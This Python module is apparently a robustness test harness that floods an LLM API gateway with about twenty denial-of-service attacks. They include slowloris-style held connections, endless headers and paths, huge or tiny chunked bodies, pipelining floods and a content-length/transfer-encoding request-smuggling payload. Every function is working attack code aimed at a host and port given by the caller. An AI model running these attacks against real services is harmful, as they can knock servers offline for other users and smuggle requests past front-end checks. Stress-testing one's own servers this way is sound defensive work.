"""Clients that try to stop a gateway for the others. Each attack goes on until its time is over."""

from __future__ import annotations

import resource
import socket
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress

__all__ = ["ATTACKS", "KEY", "run_attack"]

KEY = b"km"
"""The attacker's own key; most attacks have no use for it."""
_POST = b"POST /v1/chat/completions HTTP/1.1\r\nhost: gateway\r\n"
_KEYED = _POST + b"authorization: Bearer " + KEY + b"\r\n"
_SMUGGLED = b"GET /v1/smuggled HTTP/1.1\r\n\r\n"
_MEGABYTE = b'{"messages": [{"role": "user", "content": "%s"}]}' % (b"word " * 200_000)
_BELOW_THREADS = b'{"messages": [{"role": "user", "content": "%s"}]}' % (b"word " * 50_000)

Connect = Callable[[], socket.socket]
Attack = Callable[[Connect, Callable[[], bool]], None]


@contextmanager
def _crowd(connect: Connect, number: int) -> Iterator[list[socket.socket]]:
    connections: list[socket.socket] = []
    try:
        for _ in range(number):
            with suppress(OSError):
                connections.append(connect())
        yield connections
    finally:
        for connection in connections:
            connection.close()


def _send(connection: socket.socket, data: bytes) -> bool:
    """Return False if the server has closed the connection."""
    try:
        connection.sendall(data)
    except TimeoutError:
        return True
    except OSError:
        return False
    return True


def _drain(connection: socket.socket) -> None:
    with suppress(OSError):
        while connection.recv(1 << 16):
            pass


def _again(connect: Connect, goes_on: Callable[[], bool], first: bytes, more: bytes = b"") -> None:
    """Send a beginning and then the same again and again, on a new connection whenever one is closed."""
    while goes_on():
        with _crowd(connect, 1) as connections:
            is_open = bool(connections) and _send(connections[0], first)
            while is_open and more and goes_on():
                is_open = _send(connections[0], more)
            if connections and not more:
                _drain(connections[0])


def _held(connect: Connect, goes_on: Callable[[], bool], number: int, first: bytes, more: bytes) -> None:
    """Hold many connections with a beginning, and now and then some bytes more."""
    with _crowd(connect, number) as connections:
        for connection in connections:
            _send(connection, first)
        while goes_on():
            for at, connection in enumerate(connections):
                if not _send(connection, more):
                    connection.close()
                    with suppress(OSError):
                        connections[at] = connect()
                        _send(connections[at], first)
                if not goes_on():
                    break


def _crowd_of_requests(connect: Connect, goes_on: Callable[[], bool], number: int, data: bytes) -> None:
    """Send the same request on many connections at one time, and read the answers."""
    while goes_on():
        with _crowd(connect, number) as connections:
            for connection in connections:
                _send(connection, data)
            for connection in connections:
                if goes_on():
                    _drain(connection)


def _with_body(head: bytes, body: bytes) -> bytes:
    return head + b"connection: close\r\ncontent-length: %d\r\n\r\n" % len(body) + body


ATTACKS: dict[str, Attack] = {
    "endless headers": lambda c, g: _again(c, g, b"GET / HTTP/1.1\r\n", b"x-abcdefgh: y\r\n" * 10_000),
    "an endless header": lambda c, g: _again(c, g, b"GET / HTTP/1.1\r\nx: ", b"y" * 100_000),
    "an endless path": lambda c, g: _again(c, g, b"GET /", b"y" * 100_000),
    "slow headers": lambda c, g: _held(c, g, 3_000, b"GET / HTTP/1.1\r\n", b"x: y\r\n"),
    "idle connections": lambda c, g: _held(c, g, 3_000, b"", b"\r\n"),
    "connections without a pause": lambda c, g: _again(c, g, b"GET / HTTP/1.1\r\nconnection: close\r\n\r\n"),
    "unfinished bodies": lambda c, g: _held(c, g, 2_000, _KEYED + b"content-length: 100000\r\n\r\n", b"{"),
    "bodies without a key": lambda c, g: _again(c, g, _POST + b"content-length: 9999999999\r\n\r\n", b"y" * 100_000),
    "a huge chunk": lambda c, g: _again(
        c, g, _KEYED + b"transfer-encoding: chunked\r\n\r\n7fffffffffffffff\r\n", b"y" * 100_000
    ),
    "tiny chunks": lambda c, g: _again(c, g, _KEYED + b"transfer-encoding: chunked\r\n\r\n", b"1\r\n{\r\n" * 20_000),
    "endless extensions": lambda c, g: _again(c, g, _KEYED + b"transfer-encoding: chunked\r\n\r\n1;", b"y" * 100_000),
    "endless trailers": lambda c, g: _again(
        c, g, _KEYED + b"transfer-encoding: chunked\r\n\r\n0\r\n", b"x-abcdefgh: y\r\n" * 10_000
    ),
    "a length and chunks": lambda c, g: _again(
        c,
        g,
        _KEYED + b"content-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/smuggled HTTP/1.1\r\n\r\n",
    ),
    "pipelined pages": lambda c, g: _again(c, g, b"", b"GET / HTTP/1.1\r\nhost: gateway\r\n\r\n" * 1_000),
    "pipelined prompts": lambda c, g: _again(c, g, b"", (_KEYED + b"content-length: 2\r\n\r\n{}") * 1_000),
    "many pages": lambda c, g: _crowd_of_requests(c, g, 500, b"GET / HTTP/1.1\r\nconnection: close\r\n\r\n"),
    "many wrong keys": lambda c, g: _crowd_of_requests(c, g, 500, _with_body(_POST, b"{}")),
    "large bodies": lambda c, g: _crowd_of_requests(c, g, 20, _with_body(_KEYED, _MEGABYTE)),
    "middling bodies": lambda c, g: _crowd_of_requests(c, g, 100, _with_body(_KEYED, _BELOW_THREADS)),
    "half-closed connections": lambda c, g: _half_closed(c, g),
}


def _half_closed(connect: Connect, goes_on: Callable[[], bool]) -> None:
    while goes_on():
        with _crowd(connect, 100) as connections:
            for connection in connections:
                _send(connection, _KEYED + b"content-length: 10\r\n\r\n{")
                with suppress(OSError):
                    connection.shutdown(socket.SHUT_WR)
            for connection in connections:
                _drain(connection)


def run_attack(name: str, host: str, port: int, seconds: float) -> None:
    """Attack the server at an address for some seconds."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    end = time.monotonic() + seconds

    def connect() -> socket.socket:
        return socket.create_connection((host, port), timeout=1)

    ATTACKS[name](connect, lambda: time.monotonic() < end)
